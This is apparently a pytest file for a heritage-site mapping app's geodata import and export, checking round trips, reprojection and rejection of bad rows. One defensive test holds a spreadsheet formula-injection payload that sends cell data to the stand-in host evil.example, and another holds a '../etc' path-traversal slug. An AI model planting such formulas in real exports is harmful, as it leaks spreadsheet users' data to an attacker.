"""File import and export: round trips keep every field and geometry, other inputs land where they should,
and bad files change nothing while naming each bad row."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from pathlib import Path

import geopandas as gpd
import pyogrio
import pytest
import shapely
from pyproj import Transformer
from sqlalchemy import select, text

from heritage_map.catalogue import queries
from heritage_map.catalogue.models import Project, Site
from heritage_map.transfer.exports import export_layer
from heritage_map.catalogue.layers import LAYERS
from heritage_map.transfer.files import FORMATS, ImportFailed, read_file
from heritage_map.transfer.imports import import_layer, parse_rows
from seed_facts import BAB_EL_KHEMIS as KHEMIS

POINT = "POINT (-8.87 30.47)"


def export(session, layer: str, fmt: str, folder: Path, crs: str = "EPSG:4326") -> Path:
    return export_layer(session, layer, fmt, folder / f"{layer}{FORMATS[fmt][1]}", crs=crs)


def db_rows(session, layer: str) -> dict[str, dict]:
    return {row["slug"]: row for row in queries.export_rows(session, layer)}


def same_geom(geom, wkb: bytes | None) -> bool:
    if geom is None or wkb is None:
        return geom is None and wkb is None
    return geom.equals_exact(shapely.from_wkb(wkb), 1e-7)


def assert_same_records(records: list[dict], expected: dict[str, dict], layer: str) -> None:
    """Every field of LAYERS[layer] and the geometry of each record equal the database's."""
    assert sorted(r["slug"] for r in records) == sorted(expected)
    for record in records:
        row = expected[record["slug"]]
        for f in LAYERS[layer].fields:
            assert record[f.name] == row[f.name], (record["slug"], f.name)
            assert type(record[f.name]) is type(row[f.name]), (record["slug"], f.name)
        assert same_geom(record["geom"], row["wkb"]), record["slug"]


def snapshot(session) -> tuple[dict, str]:
    """Record counts and a checksum of every value in the sites table."""
    checksum = session.scalar(text("SELECT md5(string_agg(s::text, '|' ORDER BY s.id)) FROM sites s"))
    return queries.counts(session), checksum


def write_csv(path: Path, rows: list[dict]) -> Path:
    columns = list(dict.fromkeys(key for row in rows for key in row))
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, columns)
        writer.writeheader()
        writer.writerows(rows)
    return path


def site(key: str, **values) -> dict:
    return {"slug": key, "name_en": key.title(), "category": "gate", "wkt": POINT, **values}


@pytest.fixture
def enriched(session):
    """Fill the few fields the seed leaves empty everywhere, so that each type crosses every format."""
    project = session.scalar(select(Project).where(Project.slug == "clean-walls"))
    project.start_date, project.end_date = dt.date(2015, 2, 2), dt.date(2015, 2, 4)
    khemis = session.scalar(select(Site).where(Site.slug == "bab-el-khemis"))
    khemis.protection_buffer_m, khemis.condition_date = 250, dt.date(2023, 9, 8)
    session.flush()
    return session


# Round trips


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "shp", "csv", "kml"])
@pytest.mark.parametrize("layer", list(LAYERS))
def test_export_then_read_keeps_every_field_and_geometry(enriched, tmp_path, layer, fmt):
    expected = db_rows(enriched, layer)
    records, errors = parse_rows(read_file(export(enriched, layer, fmt, tmp_path)), layer)
    assert errors == []
    assert_same_records(records, expected, layer)


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "shp", "csv"])
def test_round_trip_keeps_arabic_long_texts_and_dates(enriched, tmp_path, fmt):
    records = {r["slug"]: r for r in parse_rows(read_file(export(enriched, "sites", fmt, tmp_path)), "sites")[0]}
    khemis, park = records["bab-el-khemis"], records["souss-massa-national-park"]
    assert (khemis["name_ar"], khemis["condition_date"]) == ("باب الخميس", dt.date(2023, 9, 8))
    assert park["protection_date"] == dt.date(1991, 8, 8) and len(park["description_en"].encode()) > 254


def test_a_csv_export_never_hands_a_spreadsheet_a_formula_and_reads_back_as_typed(session, tmp_path):
    typed = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    site = session.scalar(select(Site).where(Site.slug == "bab-el-khemis"))
    site.description_en, site.period = typed, "@SUM(1+1)"
    session.flush()
    path = export(session, "sites", "csv", tmp_path)
    with path.open(encoding="utf-8", newline="") as f:
        row = next(r for r in csv.DictReader(f) if r["slug"] == "bab-el-khemis")
    assert (row["description_en"], row["period"]) == ("'" + typed, "'@SUM(1+1)")
    cells = [cell for r in csv.reader(path.open(encoding="utf-8", newline="")) for cell in r]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    records = {r["slug"]: r for r in parse_rows(read_file(path), "sites")[0]}
    assert (records["bab-el-khemis"]["description_en"], records["bab-el-khemis"]["period"]) == (typed, "@SUM(1+1)")


@pytest.mark.parametrize("layer, stems", [("sites", ["lines", "points"]), ("associations", ["points"]),
                                          ("projects", ["lines", "points", "polygons"])])
def test_shapefile_zip_holds_one_shapefile_per_dimension_with_prj_and_utf8_cpg(session, tmp_path, layer, stems):
    with zipfile.ZipFile(export(session, layer, "shp", tmp_path)) as zf:
        names = set(zf.namelist())
        assert names == {f"{layer}_{s}.{ext}" for s in stems for ext in ("shp", "shx", "dbf", "prj", "cpg")}
        assert all(zf.read(f"{layer}_{s}.cpg").decode().strip() == "UTF-8" for s in stems)


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "shp", "csv"])
@pytest.mark.parametrize("layer", list(LAYERS))
def test_reimporting_an_export_updates_every_record_and_changes_nothing(enriched, tmp_path, layer, fmt):
    path = export(enriched, layer, fmt, tmp_path)
    before, counts = db_rows(enriched, layer), queries.counts(enriched)
    report = import_layer(enriched, path, layer)
    assert (report.read, report.created, report.updated, report.errors) == (len(before), 0, len(before), [])
    after = db_rows(enriched, layer)
    assert queries.counts(enriched) == counts
    moving = ("updated_at", "version")  # a write's time and count move; the record's values stay
    for slug, row in before.items():
        assert {k: v for k, v in after[slug].items() if k not in moving} == \
            {k: v for k, v in row.items() if k not in moving}, slug


def written_point(path: Path, fmt: str, crs: str):
    """Return bab-el-khemis as the file holds it, checking the CRS the file names (a CSV names none)."""
    if fmt == "csv":
        with path.open(encoding="utf-8") as rows:
            return shapely.from_wkt(next(row["wkt"] for row in csv.DictReader(rows) if row["slug"] == "bab-el-khemis"))
    raw = pyogrio.read_dataframe(f"/vsizip/{path}/sites_points.shp" if fmt == "shp" else path)
    assert raw.crs.to_epsg() == int(crs.split(":")[1])
    return raw.set_index("slug").geometry["bab-el-khemis"]


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "shp", "csv"])
@pytest.mark.parametrize("crs", ["EPSG:26192", "EPSG:32629"])
def test_projected_export_matches_pyproj_and_reimports_within_1e_7_degrees(session, tmp_path, crs, fmt):
    path = export(session, "sites", fmt, tmp_path, crs=crs)
    point = written_point(path, fmt, crs)
    expected = Transformer.from_crs("EPSG:4326", crs, always_xy=True).transform(*KHEMIS)
    assert (point.x, point.y) == pytest.approx(expected, abs=0.01)
    before = db_rows(session, "sites")
    import_layer(session, path, "sites", crs=crs if fmt == "csv" else None)
    for slug, row in db_rows(session, "sites").items():
        assert same_geom(shapely.from_wkb(row["wkb"]), before[slug]["wkb"]), slug


@pytest.mark.parametrize("layer", list(LAYERS))
def test_kml_export_rereads_with_pyogrio_with_every_feature(session, tmp_path, layer):
    frame = pyogrio.read_dataframe(export(session, layer, "kml", tmp_path))
    assert sorted(frame["slug"]) == sorted(db_rows(session, layer))


# Other inputs


def import_one(session, path: Path, slug: str, **options) -> dict:
    """Import `path` as sites, which must create one site; return its stored row, geometry parsed."""
    report = import_layer(session, path, "sites", **options)
    assert (report.created, report.errors) == (1, []), report.summary()
    row = db_rows(session, "sites")[slug]
    return {**row, "geom": shapely.from_wkb(row["wkb"])}


def shapefile_zip(folder: Path, columns: dict, parts=("shp", "shx", "dbf", "prj", "cpg")) -> Path:
    """Write one site as gates.shp and zip the given parts of it."""
    frame = gpd.GeoDataFrame({k: [v] for k, v in columns.items()}, geometry=[shapely.Point(KHEMIS)], crs=4326)
    frame.to_file(folder / "gates.shp", engine="pyogrio", encoding="UTF-8")
    with zipfile.ZipFile(folder / "gates.zip", "w") as zf:
        for ext in parts:
            zf.write(folder / f"gates.{ext}", f"gates.{ext}")
    return folder / "gates.zip"


def test_csv_with_lon_lat_columns_imports_points(session, tmp_path):
    path = write_csv(tmp_path / "in.csv", [{"slug": "csv-gate", "name_ar": "باب", "category": "gate",
                                            "longitude": "-8.8712345", "latitude": "30.4712345"}])
    stored = import_one(session, path, "csv-gate")
    assert stored["geom"].equals_exact(shapely.Point(-8.8712345, 30.4712345), 1e-9)
    assert (stored["name_ar"], stored["kind"], stored["coord_confidence"]) == ("باب", "heritage", "low")


def test_csv_with_a_wkt_column_imports_any_shape(session, tmp_path):
    line = "LINESTRING (-8.88 30.47, -8.87 30.475, -8.86 30.47)"
    path = write_csv(tmp_path / "in.csv", [site("csv-wall", category="rampart", wkt=line)])
    assert import_one(session, path, "csv-wall")["geom"].equals_exact(shapely.from_wkt(line), 1e-12)


def test_csv_with_merchich_xy_lands_at_the_right_place(session, tmp_path):
    x, y = Transformer.from_crs("EPSG:4326", "EPSG:26192", always_xy=True).transform(*KHEMIS)
    path = write_csv(tmp_path / "in.csv", [{"slug": "xy-gate", "name_en": "XY", "category": "gate",
                                            "x": repr(x), "y": repr(y)}])
    stored = import_one(session, path, "xy-gate", crs="EPSG:26192")
    assert stored["geom"].equals_exact(shapely.Point(KHEMIS), 1e-7)


def test_geopackage_in_web_mercator_is_reprojected(session, tmp_path):
    gpd.GeoDataFrame({"slug": ["mercator-gate"], "name_fr": ["Porte"], "category": ["gate"]},
                     geometry=[shapely.Point(KHEMIS)], crs=4326).to_crs(3857).to_file(tmp_path / "in.gpkg")
    stored = import_one(session, tmp_path / "in.gpkg", "mercator-gate")
    assert stored["geom"].equals_exact(shapely.Point(KHEMIS), 1e-7)


def test_hand_written_kml_with_extended_data_imports(session, tmp_path):
    data = {"slug": "kml-gate", "name_ar": "باب الكمل", "category": "gate", "coord_confidence": "medium"}
    fields = "".join(f'<Data name="{k}"><value>{v}</value></Data>' for k, v in data.items())
    (tmp_path / "in.kml").write_text(
        '<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
        f"<Placemark><name>Kml gate</name><ExtendedData>{fields}</ExtendedData>"
        f"<Point><coordinates>{KHEMIS[0]},{KHEMIS[1]}</coordinates></Point></Placemark></Document></kml>",
        encoding="utf-8")
    stored = import_one(session, tmp_path / "in.kml", "kml-gate")
    assert stored["geom"].equals_exact(shapely.Point(KHEMIS), 1e-9)
    assert (stored["name_ar"], stored["coord_confidence"]) == ("باب الكمل", "medium")


def test_zipped_shapefile_with_short_field_names_imports(session, tmp_path):
    path = shapefile_zip(tmp_path, {"slug": "shp-gate", "name_en": "Shp gate", "category": "gate",
                                    "coord_conf": "high", "desc_en": "x" * 254, "desc_en2": "y" * 10})
    stored = import_one(session, path, "shp-gate")
    assert stored["geom"].equals_exact(shapely.Point(KHEMIS), 1e-9)
    assert (stored["coord_confidence"], stored["description_en"]) == ("high", "x" * 254 + "y" * 10)


def test_geojson_arrays_such_as_the_apis_own_output_read_as_lists(session, tmp_path):
    (tmp_path / "api.geojson").write_text(queries.feature_collection(session, "associations"), encoding="utf-8")
    records, errors = parse_rows(read_file(tmp_path / "api.geojson"), "associations")
    expected = db_rows(session, "associations")
    assert errors == [] and len(records) == len(expected) == 5
    for r in records:
        assert (r["themes"], r["sources"]) == (expected[r["slug"]]["themes"], expected[r["slug"]]["sources"])


# Bad imports


def assert_refused(session, path: Path, layer: str = "sites", **options) -> ImportFailed:
    """Importing `path` raises ImportFailed and changes nothing; return the error."""
    before = snapshot(session)
    with pytest.raises(ImportFailed) as failure:
        import_layer(session, path, layer, **options)
    assert snapshot(session) == before
    return failure.value


BAD_ROWS = [
    ({"name_en": ""}, "no name"),
    ({"category": "castle"}, "unknown category 'castle'"),
    ({"wkt": "POLYGON ((-8.88 30.46, -8.87 30.47, -8.88 30.47, -8.87 30.46, -8.88 30.46))"},
     "invalid geometry: Self-intersection"),
    ({"wkt": "POINT EMPTY"}, "empty geometry"),
    ({"wkt": "POINT (30.47 -8.877)"}, "outside Morocco"),
    ({"slug": "good-1"}, "slug 'good-1' is also used by row 1"),
    ({"status": "public"}, "publication_status: 'public' is not one of"),  # the column's older name
    ({"protection_date": "someday"}, "protection_date: Invalid isoformat"),
]


@pytest.mark.parametrize("values, reason", BAD_ROWS, ids=[r for _, r in BAD_ROWS])
def test_a_bad_row_is_refused_by_number_and_reason(session, tmp_path, values, reason):
    path = write_csv(tmp_path / "in.csv", [site("good-1"), site("bad-2", **values)])
    report = assert_refused(session, path).report
    assert [e.row for e in report.errors] == [2]
    assert reason in report.errors[0].reason


def mixed_file(tmp_path: Path) -> Path:
    """Three good rows (1, 3, 5) and two bad ones (2: no category, 4: swapped coordinates)."""
    return write_csv(tmp_path / "mixed.csv", [
        site("good-1"), site("bad-2", category=""), site("good-3"), site("bad-4", wkt="POINT (30.47 -8.87)"),
        site("good-5")])


def test_without_skip_invalid_a_file_with_bad_rows_writes_nothing(session, tmp_path):
    report = assert_refused(session, mixed_file(tmp_path)).report
    assert [e.row for e in report.errors] == [2, 4] and report.errors[0].reason == "no category"
    assert "row 4: coordinates outside Morocco" in report.summary()


def test_skip_invalid_writes_the_good_rows_and_reports_the_bad(session, tmp_path):
    before = queries.counts(session)["sites"]
    report = import_layer(session, mixed_file(tmp_path), "sites", skip_invalid=True)
    assert (report.read, report.created, [e.row for e in report.errors]) == (5, 3, [2, 4])
    slugs = set(db_rows(session, "sites"))
    assert queries.counts(session)["sites"] == before + 3
    assert {"good-1", "good-3", "good-5"} <= slugs and not {"bad-2", "bad-4"} & slugs


def test_dry_run_writes_nothing_but_reports_what_it_would_write(session, tmp_path):
    before = snapshot(session)
    report = import_layer(session, mixed_file(tmp_path), "sites", skip_invalid=True, dry_run=True)
    assert (report.created, report.updated, [e.row for e in report.errors]) == (3, 0, [2, 4])
    assert "would write 3 new" in report.summary()
    assert snapshot(session) == before


def noise(folder: Path) -> Path:
    (folder / "noise.gpkg").write_bytes(bytes(range(256)) * 8)
    return folder / "noise.gpkg"


UNREADABLE = {
    "an unknown CSV crs": (lambda d: write_csv(d / "in.csv", [site("a")]), "EPSG:999999", "unknown CRS 'EPSG:999999'"),
    "random bytes": (noise, None, "noise.gpkg: cannot read the file"),
    "a missing file": (lambda d: d / "nowhere.geojson", None, "nowhere.geojson: no such file"),
    "a shapefile without prj": (lambda d: shapefile_zip(d, {"slug": "a"}, ("shp", "shx", "dbf")), None,
                                "gates.zip: the file does not say its CRS"),
}


@pytest.mark.parametrize("make, crs, message", UNREADABLE.values(), ids=UNREADABLE)
def test_a_file_that_cannot_be_read_is_refused_and_changes_nothing(session, tmp_path, make, crs, message):
    assert message in assert_refused(session, make(tmp_path), crs=crs).message


def project(key: str, **values) -> dict:
    return {"slug": key, "title_en": key.title(), "sites": "ramparts", "associations": "lead:taroudant-bladna",
            "wkt": "", **values}


def test_project_linking_an_unknown_site_is_refused_by_row(session, tmp_path):
    path = write_csv(tmp_path / "p.csv", [project("p-1"), project("p-2", sites="ramparts;no-such-site")])
    failure = assert_refused(session, path, "projects")
    assert [(e.row, e.reason) for e in failure.report.errors] == [(2, "unknown site 'no-such-site'")]


def test_skip_invalid_numbers_link_errors_by_file_row_and_leaves_no_half_written_project(session, tmp_path):
    path = write_csv(tmp_path / "p.csv", [project("p-1", status="done"), project("p-2"),
                                          project("p-3", associations="lead:nobody")])
    report = import_layer(session, path, "projects", skip_invalid=True)
    assert [(e.row, e.reason) for e in report.errors][1] == (3, "unknown association 'nobody'")
    assert (report.created, [e.row for e in report.errors]) == (1, [1, 3])
    stored = db_rows(session, "projects")
    assert not {"p-1", "p-3"} & set(stored)
    # A project without status is proposed (its progress) and published (its visibility).
    p2 = stored["p-2"]
    assert (p2["status"], p2["publication_status"], p2["sites"], p2["associations"]) == \
        ("proposed", "published", ["ramparts"], ["lead:taroudant-bladna"])


def test_project_ending_before_it_starts_is_refused_by_row(session, tmp_path):
    path = write_csv(tmp_path / "p.csv", [project("p-1", start_date="2020-05-01", end_date="2020-04-01")])
    errors = assert_refused(session, path, "projects").report.errors
    assert [(e.row, e.reason) for e in errors] == [(1, "end_date 2020-04-01 is before start_date 2020-05-01")]


def test_a_partial_file_updates_only_its_own_columns(session, tmp_path):
    before = session.scalar(select(Site).where(Site.slug == "bab-el-khemis"))
    kept = (before.name_ar, before.description_en, list(before.sources), before.protection_status)
    path = write_csv(tmp_path / "partial.csv", [{"slug": "bab-el-khemis", "name_en": "Thursday Gate (renamed)",
                                                 "category": "gate", "lon": -8.8753605, "lat": 30.4786022}])
    report = import_layer(session, path, "sites")
    session.expire_all()
    after = session.scalar(select(Site).where(Site.slug == "bab-el-khemis"))
    assert (report.created, report.updated) == (0, 1)
    assert after.name_en == "Thursday Gate (renamed)"
    assert (after.name_ar, after.description_en, list(after.sources), after.protection_status) == kept


@pytest.mark.parametrize("column, value", [("sample", "maybe"), ("protection_buffer_m", "1.9")])
def test_an_unclear_flag_or_number_is_refused_not_guessed(session, tmp_path, column, value):
    path = write_csv(tmp_path / "unclear.csv", [site("u", **{column: value})])
    error = assert_refused(session, path)
    assert column in str(error.report.errors[0])


@pytest.mark.parametrize("slug", ["Bab El Khemis", "bab--x", "../etc", "x" * 81])
def test_a_slug_that_is_not_lowercase_words_and_hyphens_is_refused(session, tmp_path, slug):
    error = assert_refused(session, write_csv(tmp_path / "slug.csv", [site(slug)]))
    assert "slug" in str(error.report.errors[0])
